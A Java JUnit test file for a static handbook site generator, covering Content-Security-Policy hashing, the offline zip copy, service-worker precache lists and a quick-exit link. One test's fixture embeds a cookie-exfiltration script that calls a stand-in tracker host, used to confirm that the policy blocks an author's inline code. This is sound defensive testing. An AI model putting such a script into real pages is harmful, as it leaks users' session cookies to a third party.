package org.handbookpress.offline;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.handbookpress.TestHandbooks;
import org.handbookpress.content.ReaderOptions;
import org.handbookpress.output.OutputGuard;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReaderStageTest {

    @Test
    void everyPageKindCarriesThePolicyAndNoInlineHandlers() throws Exception {
        Path out = TestHandbooks.example().output();
        List<Path> pages;
        try (Stream<Path> walk = Files.walk(out)) {
            pages = walk.filter(p -> p.toString().endsWith(".html")).sorted().toList();
        }
        assertTrue(pages.stream().anyMatch(p -> p.toString().endsWith(".slides.html")));
        assertTrue(pages.stream().anyMatch(p -> p.endsWith("404.html")));
        for (Path page : pages) {
            Document doc = Jsoup.parse(Files.readString(page, StandardCharsets.UTF_8));
            Element meta = doc.selectFirst("head > meta[http-equiv=Content-Security-Policy]");
            assertTrue(meta != null, page + " has no policy");
            String policy = meta.attr("content");
            assertTrue(policy.startsWith("default-src 'self'; script-src 'self'"), policy);
            assertFalse(policy.contains("unsafe-inline"), policy);
            for (Element inline : doc.select("script:not([src])")) {
                assertTrue(policy.contains("'sha256-" + ContentSecurityPolicy.hash(inline.data()) + "'"), page + ": inline script not allowed by hash");
            }
            for (Element el : doc.getAllElements()) {
                el.attributes().forEach(a -> assertFalse(a.getKey().startsWith("on"), page + ": inline handler " + a));
            }
        }
    }

    /**
     * The policy is added to every page the layouts did not write with it, and allowed each one's inline code by hash:
     * right for a deck the build wrote, but an author's own HTML file, had anything let it into the site, would have had
     * its scripts allowed too. Only the build's pages have their inline code allowed.
     */
    @Test
    void anAuthorsHtmlFileGetsAPolicyAllowingNoneOfItsInlineCode(@TempDir Path site) throws Exception {
        String page = "<!DOCTYPE html><html><head><style>p{}</style></head><body><p style=\"color:red\">Hi</p>"
                + "<script>fetch('https://tracker.example/'+document.cookie)</script></body></html>";
        Files.createDirectories(site.resolve("slides"));
        Files.writeString(site.resolve("slides/deck.slides.html"), page);
        Files.writeString(site.resolve("embed.html"), page);
        ContentSecurityPolicy csp = new ContentSecurityPolicy(List.of("speakerView()"), List.of());
        ReaderStage.addPolicy(SiteFile.under(site), csp, 2, java.util.Set.of(), java.util.Set.of("embed.html"));
        String script = "'sha256-" + ContentSecurityPolicy.hash("fetch('https://tracker.example/'+document.cookie)") + "'";
        String deck = Jsoup.parse(Files.readString(site.resolve("slides/deck.slides.html"))).selectFirst("meta[http-equiv]").attr("content");
        assertTrue(deck.contains(script) && deck.contains("'sha256-" + ContentSecurityPolicy.hash("p{}") + "'"), deck);
        String embed = Jsoup.parse(Files.readString(site.resolve("embed.html"))).selectFirst("meta[http-equiv]").attr("content");
        assertEquals(String.format(Locale.ROOT, ContentSecurityPolicy.BASE, "", ""), embed, "nothing inline of the author's file runs");
    }

    @Test
    void hashesInlineCodeAndTheSpeakerViewOfReveal() {
        String page = "<!DOCTYPE html><html><head><style>p{}</style></head><body><script>x()</script></body></html>";
        String with = new ContentSecurityPolicy(List.of("y()"), List.of()).apply(page);
        assertTrue(with.contains("script-src 'self' '" + "sha256-" + ContentSecurityPolicy.hash("x()") + "'")
                || with.contains("'sha256-" + ContentSecurityPolicy.hash("x()") + "'"), with);
        assertTrue(with.contains("'sha256-" + ContentSecurityPolicy.hash("y()") + "'"));
        assertTrue(with.contains("style-src 'self' 'sha256-" + ContentSecurityPolicy.hash("p{}") + "'"));
        assertEquals(with, new ContentSecurityPolicy(List.of(), List.of()).apply(with), "applied once");
        List<List<String>> written = ContentSecurityPolicy.writtenInline("a; w.document.write(`<style>b{}</style><script>go(1) <\\/script></body>`); c");
        assertEquals(List.of(List.of("go(1) "), List.of("b{}")), written);
    }

    @Test
    void offlineCopyIsTheWholeSiteInSortedEntriesWithOneTime() throws Exception {
        Path out = TestHandbooks.example().output();
        Path zip = out.resolve("downloads/peer-mentor-handbook-offline.zip");
        byte[] bytes = Files.readAllBytes(zip);
        List<String> names = new ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                names.add(e.getName());
                assertEquals(OfflineZip.ENTRY_TIME, e.getTimeLocal());
            }
        }
        assertEquals(names.stream().sorted().toList(), names);
        assertTrue(names.contains("peer-mentor-handbook/index.html"));
        assertTrue(names.contains("peer-mentor-handbook/assets/search/manifest.js"));
        assertFalse(names.contains("peer-mentor-handbook/sw.js"));
        assertFalse(names.contains("peer-mentor-handbook/" + ServiceWorker.LIST));
        assertTrue(Files.exists(out.resolve(OutputGuard.MARKER)), "the site has the output folder's marker");
        assertFalse(names.contains("peer-mentor-handbook/" + OutputGuard.MARKER), "the copy has not: it is the build's own");
        assertTrue(names.stream().noneMatch(n -> n.endsWith(".zip")));
        String downloads = Files.readString(out.resolve("downloads.html"));
        assertTrue(downloads.contains("href=\"downloads/peer-mentor-handbook-offline.zip\""), "linked from the Downloads page");
        assertTrue(downloads.contains(String.format("%.1f MB", bytes.length / 1048576.0)), "with its size");
        // Inside the copy, the Downloads page says it is the copy (it cannot link itself); every other file is the site's.
        Map<String, byte[]> entries = new java.util.TreeMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                entries.put(e.getName().substring("peer-mentor-handbook/".length()), in.readAllBytes());
            }
        }
        String copyDownloads = new String(entries.get("downloads.html"), java.nio.charset.StandardCharsets.UTF_8);
        assertTrue(copyDownloads.contains("You are reading the offline copy") && !copyDownloads.contains("-offline.zip"), copyDownloads);
        assertTrue(copyDownloads.contains("http-equiv=\"Content-Security-Policy\""), "the copy's page has the policy too");
        for (Map.Entry<String, byte[]> e : entries.entrySet()) {
            if (!e.getKey().equals("downloads.html")) {
                assertArrayEquals(Files.readAllBytes(out.resolve(e.getKey())), e.getValue(), e.getKey());
            }
        }
        java.io.ByteArrayOutputStream fourThreads = new java.io.ByteArrayOutputStream();
        OfflineZip.write(out, "peer-mentor-handbook", fourThreads, 4);
        byte[] again = OfflineZip.of(out, "peer-mentor-handbook");
        assertArrayEquals(again, fourThreads.toByteArray(), "one thread or four give the same zip");
    }

    @Test
    void theWorkersScriptIsTheSameSizeForTenFilesOrTenThousandAndNamesItsListsVersion() {
        Map<String, String> few = new TreeMap<>();
        Map<String, String> many = new TreeMap<>();
        for (int i = 0; i < 10_000; i++) {
            String path = String.format("area-%02d/page-%04d.html", i % 20, i);
            (i < 10 ? few : many).put(path, String.format("%012x", i));
        }
        ServiceWorker.Written small = ServiceWorker.of(few);
        ServiceWorker.Written large = ServiceWorker.of(many);
        assertEquals(small.script().length(), large.script().length());
        assertFalse(large.script().contains("page-0001.html"));
        assertTrue(large.list().length() > 300_000, "the list holds every file");
        String version = large.script().replaceAll("(?s).*var VERSION = '([0-9a-f]+)'.*", "$1");
        assertTrue(large.list().startsWith("{\"version\":\"" + version + "\",\"files\":[[\"area-00/page-0020.html\""), large.list().substring(0, 80));
        assertFalse(version.equals(small.script().replaceAll("(?s).*var VERSION = '([0-9a-f]+)'.*", "$1")));
    }

    @Test
    void serviceWorkerListsEveryFileButItselfTheCopyAndPdfsSorted() throws Exception {
        Path out = TestHandbooks.example().output();
        Map<String, String> precache = Precache.of(out, false);
        assertEquals(precache.keySet().stream().sorted().toList(), List.copyOf(precache.keySet()));
        assertTrue(precache.containsKey("glossary.html") && precache.containsKey("assets/search/manifest.js")
                && precache.containsKey("manifest.webmanifest") && precache.containsKey("assets/icon-192.png"));
        assertTrue(precache.keySet().stream().noneMatch(p -> p.endsWith(".pdf") || p.endsWith(".zip") || p.equals("sw.js")));
        assertTrue(Precache.of(out, true).keySet().stream().anyMatch(p -> p.endsWith(".pdf")), "offline-pdfs: true keeps the PDFs");
        assertEquals(Precache.revision(Files.readAllBytes(out.resolve("glossary.html"))), precache.get("glossary.html"));
        String list = Files.readString(out.resolve(ServiceWorker.LIST));
        assertTrue(list.contains("[\"glossary.html\",\"" + precache.get("glossary.html") + "\"]"), "the list hashes the final bytes");
        // The build reuses the revisions taken while zipping: every one must still be that of the file's final bytes
        // (the Downloads page, written again after the zip, included).
        assertEquals(ServiceWorker.of(precache), new ServiceWorker.Written(Files.readString(out.resolve("sw.js")), list),
                "sw-files.json lists every file with the revision of its bytes on disk, and sw.js names its version");
        assertFalse(precache.containsKey(ServiceWorker.LIST), "the list is not kept offline");
        assertFalse(precache.containsKey(OutputGuard.MARKER), "nor the output folder's marker");
        String manifest = Files.readString(out.resolve("manifest.webmanifest"));
        assertTrue(manifest.contains("\"start_url\":\"index.html\"") && manifest.contains("\"display\":\"standalone\""), manifest);
        assertTrue(Files.size(out.resolve("assets/icon-512.png")) > 500);
    }

    @Test
    void theZipGivesEachFilesRevisionAndThePrecacheReadsOnlyTheOthers(@TempDir Path dir) throws Exception {
        Path site = TestHandbooks.write(dir, Map.of("index.html", "<p>home</p>", "a/b.js", "b();", "sw.js", "old worker"));
        java.io.ByteArrayOutputStream zip = new java.io.ByteArrayOutputStream();
        Map<String, String> revisions = OfflineZip.write(site, "copy", zip, 2);
        assertEquals(Map.of("index.html", Precache.revision("<p>home</p>".getBytes(StandardCharsets.UTF_8)),
                "a/b.js", Precache.revision("b();".getBytes(StandardCharsets.UTF_8))), revisions, "every file packed, the worker left out");
        assertEquals(Precache.of(site, false), Precache.of(site, false, 2, revisions));
        // A revision given is taken as it is: the file is not read again.
        Map<String, String> given = Precache.of(site, false, 2, Map.of("a/b.js", "given"));
        assertEquals("given", given.get("a/b.js"));
        assertEquals(revisions.get("index.html"), given.get("index.html"));
    }

    @Test
    void theZipHashesOnlyTheFilesTheWorkerLists(@TempDir Path dir) throws Exception {
        Path site = TestHandbooks.write(dir, Map.of("index.html", "<p>home</p>", "downloads/pack.pdf", "%PDF-1.7 not listed by default"));
        java.io.ByteArrayOutputStream zip = new java.io.ByteArrayOutputStream();
        List<SiteFile> files = SiteFile.under(site);
        Map<String, String> revisions = OfflineZip.write(files, "copy", zip, 2, path -> Precache.lists(path, false));
        assertEquals(java.util.Set.of("index.html"), revisions.keySet(), "the PDF is packed, not hashed");
        assertEquals(Precache.of(site, false), Precache.of(files, false, 2, revisions));
        // With offline-pdfs the PDF is listed: hashed by the zip if asked, or read by the precache if not.
        Map<String, String> withPdfs = OfflineZip.write(files, "copy", new java.io.ByteArrayOutputStream(), 2, path -> Precache.lists(path, true));
        assertEquals(java.util.Set.of("index.html", "downloads/pack.pdf"), withPdfs.keySet());
        assertEquals(Precache.of(site, true), Precache.of(files, true, 2, revisions));
        assertEquals(zip.toByteArray().length, OfflineZip.of(site, "copy").length, "the same copy whatever is hashed");
    }

    /**
     * A page may link the offline copy; the copy holds that page but not itself, so there the link leads to the copy's
     * Downloads page, which says that this is the copy. It led nowhere once the copy was unpacked. The site keeps its
     * link, and the service worker lists the site's page as it is.
     */
    @Test
    void aPagesLinkToTheCopyLeadsInTheCopyToItsDownloadsPage(@TempDir Path dir) throws Exception {
        Path content = TestHandbooks.write(dir, Map.of("handbook.yml", "title: Visiting Handbook\n",
                "index.md", "# Home\n\nTake [the whole handbook with you](downloads/visiting-handbook-offline.zip).\n",
                "toolkit/01-visits.md", "# Visits\n\nNo signal? [Take it offline](../downloads/visiting-handbook-offline.zip).\n"));
        Path out = TestHandbooks.build(content, dir.resolve("site")).output();
        Map<String, byte[]> copy = new TreeMap<>();
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(out.resolve("downloads/visiting-handbook-offline.zip")))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                copy.put(e.getName().substring("visiting-handbook/".length()), in.readAllBytes());
            }
        }
        for (String[] page : new String[][] {{"index.html", "", "the whole handbook with you"}, {"toolkit/01-visits.html", "../", "Take it offline"}}) {
            Document site = Jsoup.parse(Files.readString(out.resolve(page[0])));
            assertEquals(page[1] + "downloads/visiting-handbook-offline.zip", site.selectFirst("main a:containsOwn(" + page[2] + ")").attr("href"));
            Document inCopy = Jsoup.parse(new String(copy.get(page[0]), StandardCharsets.UTF_8));
            assertEquals(page[1] + "downloads.html", inCopy.selectFirst("main a:containsOwn(" + page[2] + ")").attr("href"), page[0]);
            String zipHref = "href=\"" + page[1] + "downloads/visiting-handbook-offline.zip\"";
            assertEquals(Files.readString(out.resolve(page[0])).replace(zipHref, "href=\"" + page[1] + "downloads.html\""),
                    new String(copy.get(page[0]), StandardCharsets.UTF_8), "the link alone changed");
        }
        assertTrue(new String(copy.get("downloads.html"), StandardCharsets.UTF_8).contains("You are reading the offline copy"));
        assertTrue(Files.readString(out.resolve(ServiceWorker.LIST)).contains(Precache.revision(Files.readAllBytes(out.resolve("index.html")))),
                "the worker lists the site's page, not the copy's");
    }

    @Test
    void quickExitIsOffByDefaultAndFirstAfterTheSkipLinkWhenSet(@TempDir Path dir) throws Exception {
        Path content = TestHandbooks.write(dir, Map.of("handbook.yml", "title: Safe Space\nquick-exit: https://www.bbc.co.uk/weather\n",
                "index.md", "# Home\n\nHello.\n"));
        Path out = dir.resolve("site");
        TestHandbooks.build(content, out);
        Document home = Jsoup.parse(Files.readString(out.resolve("index.html")));
        List<Element> focusable = home.select("body a[href], body button, body input");
        assertEquals("skip-link", focusable.get(0).className());
        assertEquals("https://www.bbc.co.uk/weather", focusable.get(1).attr("href"));
        assertEquals("quick-exit", focusable.get(1).id());
        assertTrue(home.select("script[src$=quick-exit.js]").size() == 1);
        assertTrue(Files.isRegularFile(out.resolve("downloads/safe-space-offline.zip")), "the id is the title's slug");

        Path plain = dir.resolve("plain");
        TestHandbooks.build(TestHandbooks.write(dir.resolve("p"), Map.of("index.md", "# Home\n")), plain);
        assertTrue(Jsoup.parse(Files.readString(plain.resolve("index.html"))).select("#quick-exit, script[src$=quick-exit.js]").isEmpty());
    }

    @Test
    void slugsTitles() {
        assertEquals("gwyl-a-chafe", ReaderOptions.slug("Gŵyl a Chafé!"));
        assertEquals("handbook", ReaderOptions.slug("…"));
    }
}
